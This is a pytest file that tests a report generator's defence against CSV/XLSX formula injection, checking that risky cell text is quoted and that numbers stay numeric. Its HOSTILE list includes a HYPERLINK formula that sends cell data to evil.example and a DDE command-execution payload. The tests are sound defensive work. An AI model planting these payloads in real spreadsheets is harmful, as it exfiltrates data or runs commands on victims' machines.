"""Formula injection: every text cell of the CSV and XLSX files the product
writes is inert (OWASP's CSV-injection rule), while numbers stay numbers. The
files are read back with the csv module and openpyxl, as a user's tools would."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import tempfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from saas.reports.files import Chart, Column, Heading, Kind, Sheet, write_files
from saas.reports.labels import Language

# Text a spreadsheet would run as a formula (or that Excel may skip into one).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click for invoice")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "-1e5",
]
# Text that is safe as it is, numbers and empty cells.
HARMLESS = [
    "Wang Fang",
    "139****9000",
    "+8613800138000",
    "-5",
    "12.5",
    "a=b",
    "",
    None,
    -5,
    -2.5,
    0,
    7,
]


def _report(cells: list[object]) -> Sheet:
    """A report sheet with a chart, one row per cell: label, cell, a figure."""
    columns = [Column("person"), Column("value", heading="value"), Column("figure", Kind.INT)]
    rows = [[f"row {n}", cell, -n] for n, cell in enumerate(cells)]
    return Sheet("daily_report", columns, rows, Chart("daily_report", 0, (2,)))


def _files(sheet: Sheet) -> dict[str, bytes]:
    """The XLSX and CSV of one sheet, as the report job writes them."""
    heading = Heading("daily_report", "2026-11-22", "SH-1", datetime(2026, 11, 22, tzinfo=UTC))
    with tempfile.TemporaryDirectory() as directory:
        written = write_files(
            Path(directory), "report", heading, [sheet], Language.EN, max_rows=1000
        )
        return {w.format: w.path.read_bytes() for w in written}


def to_csv(sheet: Sheet) -> bytes:
    return _files(sheet)["csv"]


def to_xlsx(sheet: Sheet) -> bytes:
    return _files(sheet)["xlsx"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_text_that_starts_a_formula_is_written_as_text_with_a_quote(fmt: str) -> None:
    values = _read(fmt, _report(HOSTILE))
    expected = ["'" + text for text in HOSTILE]
    if fmt == "xlsx":  # XML reads a carriage return back as a line feed
        expected = [text.replace("\r", "\n") for text in expected]
    assert [row[1] for row in values] == expected


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_numbers_and_harmless_text_are_left_alone(fmt: str) -> None:
    values = _read(fmt, _report(HARMLESS))
    if fmt == "csv":
        expected = ["" if v is None else str(v) for v in HARMLESS]
        assert [row[2] for row in values] == [str(-n) for n in range(len(HARMLESS))]
    else:
        expected = [None if v == "" else v for v in HARMLESS]  # an empty cell is no cell
        assert [row[2] for row in values] == [-n for n in range(len(HARMLESS))]
    assert [row[1] for row in values] == expected


def test_no_xlsx_cell_is_a_formula_and_numbers_stay_numeric() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(_report(HOSTILE + HARMLESS))))
    cells = [c for row in book["Daily report"].iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}
    figures = [row[2] for row in book["Daily report"].iter_rows(min_row=5)]
    assert {(c.data_type, c.value < 0) for c in figures} == {("n", True)}


def test_characters_xml_cannot_hold_do_not_break_the_xlsx() -> None:
    values = _read("xlsx", _report(["Li\x01 Lei", "\x02=1+1"]))
    assert [row[1] for row in values] == ["Li Lei", "'=1+1"]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_evaluates_no_formula_in_our_files(tmp_path: Path) -> None:
    """LibreOffice, which runs `=` formulas from a CSV it opens, finds none in
    ours (and computes none in our XLSX), and reads the figures as numbers."""
    report = _report(HOSTILE + HARMLESS)
    (tmp_path / "report.csv").write_bytes(to_csv(report))
    (tmp_path / "report.xlsx").write_bytes(to_xlsx(report))
    _soffice(tmp_path, "xlsx", "report.csv", infilter="CSV:44,34,76,1")  # comma, ", UTF-8
    book = load_workbook(tmp_path / "out" / "report.xlsx")
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    rows = list(book.active.iter_rows(min_row=2, values_only=True))
    assert [row[1] for row in rows[: len(HOSTILE)]] == [
        "'" + text.replace("\r", "\n") for text in HOSTILE
    ]
    assert [row[2] for row in rows] == [-n for n in range(len(rows))]

    # Our XLSX as LibreOffice computes and saves it: the same text, nothing evaluated.
    _soffice(tmp_path, "csv:Text - txt - csv (StarCalc):44,34,76", "report.xlsx")
    text = (tmp_path / "out" / "report.csv").read_text("utf-8-sig")
    computed = list(csv.reader(io.StringIO(text, newline="")))[
        3:
    ]  # after the title, heading and header rows
    assert [row[1] for row in computed[: len(HOSTILE)]] == [
        "'" + text.replace("\r", "\n") for text in HOSTILE
    ]


def _soffice(directory: Path, to: str, name: str, infilter: str | None = None) -> None:
    profile = (directory / "profile").as_uri()  # its own profile: runs may overlap
    subprocess.run(
        ["soffice", f"-env:UserInstallation={profile}", "--headless",
         *([f"--infilter={infilter}"] if infilter else []),
         "--convert-to", to, "--outdir", str(directory / "out"), str(directory / name)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip


def _read(fmt: str, report: Sheet) -> list[list[object]]:
    """The data rows as the csv module or openpyxl reads them."""
    if fmt == "csv":
        text = to_csv(report).decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text, newline="")))[1:]
    sheet = load_workbook(io.BytesIO(to_xlsx(report)))["Daily report"]
    return [list(row) for row in sheet.iter_rows(min_row=4, values_only=True)]
